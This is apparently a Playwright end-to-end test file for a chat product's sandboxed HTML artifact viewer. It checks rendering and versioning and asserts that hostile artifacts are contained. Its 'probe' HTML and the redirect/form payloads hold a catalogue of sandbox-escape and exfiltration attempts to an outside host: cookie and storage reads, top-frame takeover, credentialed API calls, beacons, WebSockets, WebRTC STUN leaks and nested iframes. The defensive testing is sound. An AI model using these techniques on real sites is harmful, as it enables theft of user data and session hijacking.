import { createSocket } from 'node:dgram';
import { type AddressInfo, createServer } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, expect, it } from 'vitest';
import { startEchoProvider } from './echo-provider.ts';
import { ownProduct } from './open-product.ts';
import { Visitor } from './product.ts';
import { ask, barriers } from './steps.ts';

const fence = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\``;

const EVERYTHING = [
  'Since $a^2 + b^2 = c^2$, for $5 to $10:',
  '$$\nx = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}\n$$',
  fence('mermaid', 'flowchart LR\n  A[Ask] --> B[Answer]'),
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '- [x] done',
  fence('ts', `const long = '${'x'.repeat(300)}';\n// end`),
  fence('mermaid', 'flowchart LR\n  A[[[ broken'),
].join('\n\n');

const [provider, outside] = await Promise.all([startEchoProvider(), listenOutside()]);
afterAll(() => {
  provider.stop();
  outside.stop();
});
const { url, browser } = await ownProduct(provider.settings);
/** Another host: notes what is sent to it, by TCP and by UDP. */
async function listenOutside() {
  const contacts: string[] = [];
  const tcp = createServer((socket) => {
    // A browser may connect before it refuses to navigate; what counts is whether anything is sent.
    socket.on('data', () => contacts.push('TCP')).on('error', () => undefined);
  });
  const udp = createSocket('udp4').on('message', () => {
    contacts.push('UDP');
  });
  await Promise.all([
    new Promise<void>((resolve) => {
      tcp.listen(0, '127.0.0.1', resolve);
    }),
    new Promise<void>((resolve) => {
      udp.bind(0, '127.0.0.1', resolve);
    }),
  ]);
  return {
    host: `127.0.0.1:${(tcp.address() as AddressInfo).port}`,
    stun: `stun:127.0.0.1:${udp.address().port}`,
    /** Since the last call. */
    contacts: () => contacts.splice(0),
    stop: () => {
      tcp.close();
      udp.close();
    },
  };
}

async function openChat(options: Parameters<typeof Visitor.arrive>[2] = {}) {
  const visitor = await Visitor.arrive(browser, url, options);
  const page = await visitor.enterAsGuest();
  await page.getByRole('button', { name: 'Start New Conversation' }).click();
  return { visitor, page };
}

/** Opens the last artifact of the page. */
const open = (page: Page) => page.getByRole('button', { name: 'Open', exact: true }).last().click();

async function frameOf(page: Page, name: string): Promise<Frame> {
  // A page in it may have gone to a place of its own, such as '#'.
  const find = () =>
    page.frames().find((frame) => frame.url().replace(/#.*/, '').endsWith(`/frames/${name}.html`));
  await expect.poll(() => find() !== undefined).toBe(true);
  return find()!;
}

it('formulas, diagrams, tables and code are drawn under the policy, and axe finds nothing', async () => {
  for (const width of [1440, 390]) {
    const { visitor, page } = await openChat({ viewport: { width, height: 900 } });
    await ask(page, EVERYTHING);
    await page.getByText('This diagram cannot be drawn.').waitFor();
    const diagram = await frameOf(page, 'diagram');
    await diagram.waitForSelector('svg');
    await expect.poll(() => page.locator('.katex math').count()).toBe(2);
    await expect.poll(() => page.getByText('for $5 to $10').last().isVisible()).toBe(true);
    expect(await barriers(page)).toEqual([]);
    expect(visitor.errors).toEqual([]);
    await visitor.context.close();
  }
});

it('an artifact opens beside the chat, has versions, and Back closes it', async () => {
  const { visitor, page } = await openChat();
  await ask(page, fence('html', '<h1>Clock</h1><p>one</p>'));
  await ask(page, fence('html', '<h1>Clock</h1><script>document.write("<p>two</p>")</script>'));
  await open(page);
  const shown = async (text: string) =>
    expect.poll(async () => (await frameOf(page, 'artifact')).textContent('body')).toContain(text);
  await shown('two');
  const panel = page.getByRole('complementary', { name: 'Artifact' });
  await panel.getByText('2/2').waitFor();
  await panel.getByRole('button', { name: 'Earlier version' }).click();
  await shown('one');
  expect(await barriers(page)).toEqual([]);
  await page.reload();
  await shown('one');
  await panel.getByRole('tab', { name: 'Code' }).click();
  await panel.getByRole('figure', { name: 'Code, HTML' }).waitFor();
  await page.goBack();
  await expect.poll(() => panel.count()).toBe(0);
  await visitor.context.close();
});

it('a hostile artifact reaches no cookie, no storage, no other page and no network', async () => {
  const { visitor, page } = await openChat();
  const requests: string[] = [];
  page.on('requestfinished', (request) => requests.push(request.url()));
  await ask(page, fence('html', probe(outside)));
  await open(page);
  const frame = await frameOf(page, 'artifact');
  await expect
    .poll(() => frame.evaluate(() => document.body?.dataset['tried'] ?? ''), { timeout: 30_000 })
    .toBe('all');
  console.log(
    'FRAMES',
    page.frames().map((f) => f.url()),
  );
  expect(await frame.evaluate('window.reached')).toEqual([]);
  expect(await page.title()).not.toBe('taken over');
  expect(visitor.context.pages()).toHaveLength(1);
  expect(requests.filter((url) => url.includes(outside.host))).toEqual([]);
  expect(outside.contacts()).toEqual([]);
  await visitor.context.close();
});

it.each([
  ['a refresh', (host: string) => `<meta http-equiv="refresh" content="0;url=http://${host}/">`],
  ['a script', (host: string) => `<script>location.href = 'http://${host}/'</script>`],
  [
    'a form',
    (host: string) =>
      `<form action="http://${host}/" method="post"></form><script>document.forms[0].submit()</script>`,
  ],
])('%s of an artifact leads to no other host', async (_name, html) => {
  const { visitor, page } = await openChat();
  await ask(page, fence('html', `<h1>Leaves</h1>${html(outside.host)}`));
  const address = page.url();
  await open(page);
  // The browser says on the console what it refused.
  await expect
    .poll(() => visitor.errors.join('\n'))
    .toMatch(/Content Security Policy|frame is sandboxed/);
  expect(new URL(page.url()).host).toBe(new URL(address).host);
  expect(outside.contacts()).toEqual([]);
  await visitor.context.close();
});

/** A page that tries everything; `window.reached` names what it got. */
const probe = ({ host, stun }: { host: string; stun: string }) => `<h1>Probe</h1>
<link rel="prefetch" href="http://${host}/prefetch"><link rel="preload" as="image" href="http://${host}/preload">
<link rel="dns-prefetch" href="//${host}"><link rel="stylesheet" href="http://${host}/a.css">
<style>@import url(http://${host}/b.css); body { background: url(http://${host}/c.png) }</style>
<img src="http://${host}/d.png"><iframe src="http://${host}/e"></iframe><object data="http://${host}/f"></object>
<video src="http://${host}/g"></video><script src="http://${host}/h.js"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://${host}/i"]}]}</script>
<script>
const reached = (window.reached = []);
const attempt = async (name, work) => {
  try { if (await work()) reached.push(name); } catch {}
};
const answers = (promise) => Promise.race([promise.then(() => true), new Promise((end) => setTimeout(end, 1000, false))]);
(async () => {
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage);
  await attempt('session storage', () => sessionStorage);
  await attempt('database', () => answers(new Promise((yes, no) => { const it = indexedDB.open('x'); it.onsuccess = yes; it.onerror = no; })));
  await attempt('parent', () => parent.document.body);
  await attempt('top', () => { top.document.title = 'taken over'; return true; });
  await attempt('opened window', () => window.open('http://${host}/j'));
  await attempt('top navigation', () => { top.location = 'http://${host}/k'; });
  await attempt('fetch', () => answers(fetch('http://${host}/l', { mode: 'no-cors' })));
  await attempt('own api', () => answers(fetch('/api/auth/user', { credentials: 'include' })));
  await attempt('beacon', () => { navigator.sendBeacon('http://${host}/m', 'x'); });
  await attempt('socket', () => answers(new Promise((yes, no) => { const it = new WebSocket('ws://${host}/n'); it.onopen = yes; it.onerror = no; })));
  await attempt('events', () => { new EventSource('http://${host}/o'); });
  await attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['fetch("http://${host}/p")']))); });
  await attempt('ping', () => { const a = document.createElement('a'); a.href = '#'; a.ping = 'http://${host}/q'; a.click(); });
  await attempt('eval', () => eval('1'));
  await attempt('calls', async () => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] });
    call.createDataChannel('x');
    await call.setLocalDescription(await call.createOffer());
    return true;
  });
  await attempt('inner window', () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow.RTCPeerConnection || window[0].RTCPeerConnection;
  });
  const inShadow = (root, mode) => { const host = document.createElement('p'); root.append(host); return host.attachShadow({ mode }); };
  const inner = document.createElement('iframe');
  inner.srcdoc = '<script>const call = new RTCPeerConnection({ iceServers: [{ urls: "${stun}" }] }); call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer)); parent.postMessage("inner", "*")<' + '/script>';
  const ran = new Promise((yes) => addEventListener('message', ({ data }) => data === 'inner' && yes()));
  document.body.append(inner);
  inShadow(inShadow(document.body, 'open'), 'closed').append(inner.cloneNode());
  const byAddress = document.createElement('iframe');
  byAddress.src = 'javascript:new RTCPeerConnection();parent.postMessage("inner", "*")';
  document.body.append(byAddress);
  await attempt('inner frame', () => answers(ran));
  await new Promise((end) => setTimeout(end, 2000));
  document.body.dataset.tried = 'all';
})();
</script>`;
